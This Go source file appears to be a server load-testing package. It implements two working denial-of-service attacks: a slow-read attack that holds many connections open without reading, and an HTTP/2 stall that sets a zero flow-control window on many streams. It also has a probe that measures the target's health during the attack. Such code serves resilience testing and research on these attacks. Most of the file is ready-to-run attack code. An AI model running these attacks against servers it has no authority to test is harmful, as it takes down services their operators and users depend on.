package load

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Probes are health checks on fresh connections during an attack: OK of
// N answered 200 within ProbeTimeout, the slowest in Slowest.
type Probes struct {
	N, OK   int
	Slowest time.Duration
}

func (p Probes) String() string {
	return fmt.Sprintf("health checks %d/%d answered, the slowest in %.0f ms", p.OK, p.N, float64(p.Slowest)/1e6)
}

// Probe asks url (http or https, its certificate unchecked) on a fresh
// connection every half second for d, each within ProbeTimeout.
func Probe(ctx context.Context, url string, d time.Duration) Probes {
	client := &http.Client{Timeout: ProbeTimeout, Transport: &http.Transport{
		DisableKeepAlives: true,
		TLSClientConfig:   &tls.Config{InsecureSkipVerify: true},
	}}
	var p Probes
	for end := time.Now().Add(d); time.Now().Before(end) && ctx.Err() == nil; {
		start := time.Now()
		res, err := client.Get(url)
		p.N++
		p.Slowest = max(p.Slowest, time.Since(start))
		if err == nil {
			io.Copy(io.Discard, res.Body)
			res.Body.Close()
			if res.StatusCode == http.StatusOK {
				p.OK++
			}
		}
		time.Sleep(500 * time.Millisecond)
	}
	return p
}

// Attacker is a client that holds a server's resources while Probe runs.
type Attacker struct {
	mu    sync.Mutex
	conns []net.Conn
	// Opened counts the connections the attack holds open.
	Opened int
	// Streams counts the HTTP/2 streams the server answered.
	Streams int
}

// Close ends the attack.
func (a *Attacker) Close() {
	a.mu.Lock()
	defer a.mu.Unlock()
	for _, c := range a.conns {
		c.Close()
	}
}

func (a *Attacker) hold(c net.Conn) {
	a.mu.Lock()
	a.conns = append(a.conns, c)
	a.Opened++
	a.mu.Unlock()
}

// SlowRead opens n connections to addr, each asking for path without
// compression, with a small receive buffer, and never reads the answer.
func SlowRead(ctx context.Context, addr, path string, n int) *Attacker {
	a := &Attacker{}
	var wg sync.WaitGroup
	sem := make(chan struct{}, 64)
	for range n {
		wg.Add(1)
		sem <- struct{}{}
		go func() {
			defer wg.Done()
			defer func() { <-sem }()
			d := net.Dialer{Timeout: 5 * time.Second, Control: nil}
			c, err := d.DialContext(ctx, "tcp", addr)
			if err != nil {
				return
			}
			c.(*net.TCPConn).SetReadBuffer(2 << 10)
			if _, err := io.WriteString(c, "GET "+path+" HTTP/1.1\r\nHost: "+addr+"\r\nAccept-Encoding: identity\r\n\r\n"); err != nil {
				c.Close()
				return
			}
			a.hold(c)
		}()
	}
	wg.Wait()
	return a
}

// H2Stall opens conns HTTP/2 connections over TLS to addr, each with a
// flow-control window of 0, and asks on each for path, without
// compression, on as many streams as the server takes, up to streams: the
// server can send headers but no byte of a body. The connections are
// kept alive (settings and pings answered) until Close.
func H2Stall(ctx context.Context, addr, path string, conns, streams int) *Attacker {
	a := &Attacker{}
	var wg sync.WaitGroup
	for range conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			d := tls.Dialer{Config: &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}}
			c, err := d.DialContext(ctx, "tcp", addr)
			if err != nil {
				return
			}
			if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
				c.Close()
				return
			}
			fr := http2.NewFramer(c, c)
			fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
			var hb bytes.Buffer
			enc := hpack.NewEncoder(&hb)
			for _, f := range []hpack.HeaderField{
				{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"},
				{Name: ":authority", Value: addr}, {Name: ":path", Value: path},
				{Name: "accept-encoding", Value: "identity"},
			} {
				enc.WriteField(f)
			}
			for i := range streams {
				fr.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: hb.Bytes(), EndStream: true, EndHeaders: true})
			}
			a.hold(c)
			go func() {
				for {
					f, err := fr.ReadFrame()
					if err != nil {
						return
					}
					switch f := f.(type) {
					case *http2.SettingsFrame:
						if !f.IsAck() {
							fr.WriteSettingsAck()
						}
					case *http2.PingFrame:
						if !f.IsAck() {
							fr.WritePing(true, f.Data)
						}
					case *http2.HeadersFrame:
						a.mu.Lock()
						a.Streams++
						a.mu.Unlock()
					}
				}
			}()
		}()
	}
	wg.Wait()
	return a
}
